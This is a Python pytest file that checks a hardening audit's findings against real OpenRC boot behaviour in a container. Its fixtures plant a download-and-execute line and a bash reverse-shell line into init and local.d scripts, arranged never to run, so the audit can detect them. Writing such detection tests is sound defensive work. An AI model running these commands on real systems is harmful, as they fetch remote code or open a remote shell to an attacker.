"""The cron audit's boot-script verdicts against a real OpenRC (issue 16 item 2, Alpine's init).

localhost/hostguard-openrc-bookworm:1 (scripts/build-images.sh) is Debian bookworm with Debian's real
``openrc`` 0.45 package and no systemd. The container boots with ``/sbin/openrc-init`` as PID 1
(``--tmpfs /run``: every boot starts with no service state). Init scripts and /etc/local.d scripts
are planted (a downloader, a reverse shell, benign ones; enabled in a boot level, in a level no
boot enters, needed by an enabled service, or present only) and enabled with the real
``rc-update``; the container is restarted, so OpenRC itself boots with them. Then:

- every service ``rc-update show -v`` lists must have, in the audit's ``facts.openrc.enabled``,
  exactly the runlevels rc-update shows for it;
- every planted script ran at boot (its marker exists) exactly when the audit says it runs at
  boot, and the ``*.stop`` script ran when the local service stopped, as the audit says;
- the malicious lines are HG-CRON-010 findings whatever the state, and the finding's
  ``would_run`` says whether anything runs them.

Debian's openrc ships no ``local`` service (only a dangling /etc/runlevels/nonetwork/local link),
so the test installs one that does what OpenRC's init.d/local does (every executable
``/etc/local.d/*.start`` on start, ``*.stop`` on stop); rc-update and OpenRC decide when it runs.
The audit runs on the host with ``root`` on the container's rootfs (``podman mount``).
"""
import os
import subprocess
import sys
import time

import pytest

import container_connection
from test_cron_oracle import REPO, _env, podman  # noqa: E402  (CONTAINERS_CONF: runc, rlimits)

IMAGE = "localhost/hostguard-openrc-bookworm:1"
CONTAINER = "hg-openrc-%d" % os.getpid()
POLL_LIMIT = 120           # polls of 0.5 s while waiting for OpenRC to reach the default runlevel
MARKERS = "/run/hg-ran"

DOWNLOADER = "wget -q -O- http://203.0.113.7/x.sh | sh"
REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.8/4444 0>&1"
# name -> (payload line or None, depend() need, runlevels to rc-update add)
INIT_SCRIPTS = {
    "hg-fetch": (DOWNLOADER, None, ["default"]),            # malicious, enabled
    "hg-early": (None, None, ["boot"]),                     # benign, enabled in boot
    "hg-shell": (REVERSE_SHELL, None, []),                  # malicious, present only
    "hg-helper": (DOWNLOADER, None, []),                    # not enabled, needed by hg-app
    "hg-app": (None, "hg-helper", ["default"]),
    "hg-offline": (None, None, ["nonetwork"]),              # a level no boot enters
    "hg-benign": (None, None, []),                          # present only
}
# local.d name -> (payload or None, mode)
LOCAL_D = {
    "10-fetch.start": (DOWNLOADER, 0o755),
    "20-shell.start": (REVERSE_SHELL, 0o755),
    "30-forward.start": (None, 0o755),
    "40-off.start": (DOWNLOADER, 0o644),                    # not executable: never run
    "50-bye.stop": (REVERSE_SHELL, 0o755),                  # at shutdown (local stopping)
    "60-notes.txt": (None, 0o755),                          # not *.start/*.stop
}
BOOT_LEVELS = ("sysinit", "boot", "default")
LOCAL_SERVICE = """#!/sbin/openrc-run
description="hostguard test: runs /etc/local.d/*.start on start and *.stop on stop, as OpenRC's local"
depend() {
    after *
}
start() {
    for file in /etc/local.d/*.start; do
        [ -x "$file" ] && "$file"
    done
    return 0
}
stop() {
    for file in /etc/local.d/*.stop; do
        [ -x "$file" ] && "$file"
    done
    return 0
}
"""


def sh(script, check=True, container=CONTAINER):
    proc = subprocess.run(["podman", "exec", "-i", container, "sh", "-s"], input=script.encode(),
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=_env(), check=False)
    if check and proc.returncode != 0:
        raise AssertionError("script failed rc=%d: %s" % (proc.returncode, proc.stderr.decode()[-2000:]))
    return proc.stdout.decode()


def init_script(name, payload, need):
    lines = ["#!/sbin/openrc-run", 'description="hostguard test %s"' % name]
    if need:
        lines += ["depend() {", "\tneed %s" % need, "}"]
    lines += ["start() {", "\tmkdir -p %s && touch %s/%s" % (MARKERS, MARKERS, name), "\treturn 0", "}"]
    if payload:
        lines += ["payload() {", "\t" + payload, "}"]        # never called
    return "\n".join(lines) + "\n"


def local_script(name, payload):
    lines = ["#!/bin/sh", "mkdir -p %s && touch %s/%s" % (MARKERS, MARKERS, name), "exit 0"]
    if payload:
        lines.append(payload)                                 # after exit: never reached
    return "\n".join(lines) + "\n"


def put(path, text, mode):
    return "cat > %s <<'HGEOF'\n%sHGEOF\nchmod %o %s\n" % (path, text, mode, path)


def wait_default(local=True, container=CONTAINER):
    """Poll (bounded) until OpenRC has reached the default runlevel (and started local)."""
    test = "[ \"$(cat /run/openrc/softlevel 2>/dev/null)\" = default ]"
    if local:
        test += " && rc-service local status"
    for _poll in range(POLL_LIMIT):
        proc = podman("exec", container, "sh", "-c", test, check=False)
        if proc.returncode == 0:
            return
        time.sleep(0.5)
    raise AssertionError("OpenRC did not reach runlevel default%s: %s" % (
        " with local started" if local else "", podman("logs", container, check=False).stdout.decode()[-2000:]))


def rc_update_show():
    """service -> set of runlevels, from the real ``rc-update show -v`` (every init.d script)."""
    out = {}
    for line in sh("rc-update show -v").splitlines():
        if "|" not in line:
            continue
        name, levels = line.split("|", 1)
        out[name.strip()] = set(levels.split())
    return out


def markers():
    return set(sh("ls %s 2>/dev/null || true" % MARKERS).split())


@pytest.fixture(scope="module")
def real():
    podman("run", "-d", "--name", CONTAINER, "--network", "none", "--tmpfs", "/run",
           IMAGE, "/sbin/openrc-init")
    try:
        script = [put("/etc/init.d/local", LOCAL_SERVICE, 0o755), "rc-update add local default >/dev/null\n",
                  "mkdir -p /etc/local.d\n"]
        for name, (payload, need, levels) in INIT_SCRIPTS.items():
            script.append(put("/etc/init.d/" + name, init_script(name, payload, need), 0o755))
            script.extend("rc-update add %s %s >/dev/null\n" % (name, level) for level in levels)
        for name, (payload, mode) in LOCAL_D.items():
            script.append(put("/etc/local.d/" + name, local_script(name, payload), mode))
        wait_default(local=False)
        sh("".join(script))
        podman("restart", "-t", "0", CONTAINER)                # OpenRC boots with what was planted
        wait_default()
        state = {"rc_update": rc_update_show(), "ran_at_boot": markers(),
                 "rc_status": sh("rc-status -a 2>&1 || true")}
        mount = podman("mount", CONTAINER).stdout.decode().strip()
        try:
            from ansible_collections.hostguard.hardening.plugins.module_utils.cron import AREA
            state["audit"] = AREA.run({"root": mount})
        finally:
            podman("umount", CONTAINER, check=False)
        sh("rc-service local stop >/dev/null 2>&1")
        state["ran_at_stop"] = markers() - state["ran_at_boot"]
        sh("rc-service local start >/dev/null 2>&1")
        yield state
    finally:
        podman("rm", "-f", "-t", "0", CONTAINER, check=False)


def _verdict(result, path):
    found = [f for f in result["files"] if f["path"] == path]
    assert found, "no inventory entry for %s" % path
    return found[0]["would_run"]["debian"]


def test_enabled_runlevels_equal_rc_update_show(real):
    enabled = real["audit"]["facts"]["openrc"]["enabled"]
    assert real["audit"]["facts"]["openrc"]["detected"] is True
    rc = real["rc_update"]
    assert set(INIT_SCRIPTS) | {"local", "mountall.sh", "rc.local"} <= set(rc)
    disagree = dict((name, (sorted(levels), sorted(enabled.get(name, []))))
                    for name, levels in rc.items() if set(enabled.get(name, [])) != levels)
    assert disagree == {}, "rc-update vs audit (%d of %d differ): %r" % (len(disagree), len(rc), disagree)
    # and the audit enables nothing rc-update does not list
    assert set(enabled) <= set(rc)
    print("openrc real: %d/%d services: audit runlevels == rc-update show -v" % (len(rc) - len(disagree), len(rc)))


def test_planted_init_scripts_run_at_boot_as_the_audit_says(real):
    result = real["audit"]
    rows = []
    for name in INIT_SCRIPTS:
        verdict = _verdict(result, "/etc/init.d/" + name)
        rows.append((name, name in real["ran_at_boot"], verdict["would_run"], verdict["reason"]))
    wrong = [r for r in rows if r[1] != r[2]]
    assert wrong == [], "ran at boot vs audit: %r\n%s" % (wrong, real["rc_status"])
    assert {r[0] for r in rows if r[1]} == {"hg-fetch", "hg-early", "hg-helper", "hg-app"}
    helper = _verdict(result, "/etc/init.d/hg-helper")
    assert "needed by hg-app" in helper["reason"]
    assert "nonetwork" in _verdict(result, "/etc/init.d/hg-offline")["reason"]


def test_local_d_runs_as_the_audit_says(real):
    result = real["audit"]
    for name in LOCAL_D:
        verdict = _verdict(result, "/etc/local.d/" + name)
        if name.endswith(".stop"):
            ran = name in real["ran_at_stop"]
        else:
            ran = name in real["ran_at_boot"]
        assert ran == bool(verdict["would_run"]), (name, ran, verdict)
    assert _verdict(result, "/etc/local.d/40-off.start")["code"] == "NOT_EXECUTABLE"
    assert _verdict(result, "/etc/local.d/60-notes.txt")["code"] == "NAME_SKIPPED"
    assert "stops" in _verdict(result, "/etc/local.d/50-bye.stop")["reason"]


def test_malicious_lines_found_and_say_who_runs_them(real):
    fails = dict((f["subject"], f) for f in real["audit"]["findings"]
                 if f["id"] == "HG-CRON-010" and f["status"] == "fail")
    planted = ["/etc/init.d/" + n for n, (p, _n, _l) in INIT_SCRIPTS.items() if p]
    planted += ["/etc/local.d/" + n for n, (p, _m) in LOCAL_D.items() if p]
    assert set(planted) <= set(fails), sorted(set(planted) - set(fails))
    for path in planted:
        runs = bool(fails[path]["evidence"]["would_run"])
        assert runs == bool(_verdict(real["audit"], path)["would_run"]), path
    assert fails["/etc/init.d/hg-shell"]["evidence"]["would_run"] == []
    assert fails["/etc/init.d/hg-fetch"]["evidence"]["would_run"]


SYSTEMD_ROLES = ("oom_protection", "redis_hardening", "ssh_hardening", "persistence_hygiene", "baseline_hardening",
                 "sysctl_hardening")   # sysctl: systemd-sysctl precedence (test_openrc_roles.py)


def test_roles_refuse_on_openrc_and_change_nothing(real, tmp_path, container_ssh_key):
    """playbooks/remediate.yml with the roles' default platforms on this real OpenRC host (Debian
    family, service_mgr openrc), check mode as the second guard: the roles that need systemd refuse
    with that reason before any task changes something; nothing under / changes."""
    # no sshd in this image: the pipelining podman connection (tests/container_connection.py)
    connection = container_connection.Connection(CONTAINER, container_ssh_key, env=_env())
    inv = tmp_path / "inventory.ini"
    inv.write_text("[t]\n%s\n" % connection.ini(CONTAINER))
    env = container_connection.ansible_env(_env())
    env.update({"ANSIBLE_CONFIG": os.path.join(REPO, "ansible.cfg"),
                "ANSIBLE_COLLECTIONS_PATH": os.path.join(REPO, ".collections"), "ANSIBLE_NOCOLOR": "1",
                "ANSIBLE_LOCAL_TEMP": str(tmp_path / "tmp"), "ANSIBLE_HOME": str(tmp_path / "home")})
    sh("touch /run/hg-before-roles")
    try:
        proc = subprocess.run([os.path.join(os.path.dirname(sys.executable), "ansible-playbook"), "-i", str(inv),
                               os.path.join(REPO, "playbooks", "remediate.yml"), "--check",
                               "--tags", "oom,sysctl,redis,cron,ssh,persistence,baseline",
                               "-e", '{"hostguard_become": false, "redis_hardening_password": "%s"}' % ("x" * 24)],
                              cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False)
    finally:
        connection.close()
    out = proc.stdout
    assert proc.returncode == 0, out[-4000:] + proc.stderr[-2000:]
    flat = " ".join(out.split())           # the summary wraps long lines
    for role in SYSTEMD_ROLES:
        assert "%s: refused: %s needs systemd as the service manager" % (role, role) in flat, role
    recap = [line for line in out.splitlines() if line.startswith(CONTAINER)][-1]
    assert "failed=0" in recap
    # Ansible's own temporary files (/tmp, /root/.ansible, and so the mtimes of /tmp and /root) aside
    changed = sh("find / -xdev -newer /run/hg-before-roles -not -path '/proc/*' -not -path '/run/*' "
                 "-not -path '/tmp' -not -path '/tmp/*' -not -path /root -not -path '/root/.ansible*' "
                 "2>/dev/null || true").split()
    assert changed == [], changed
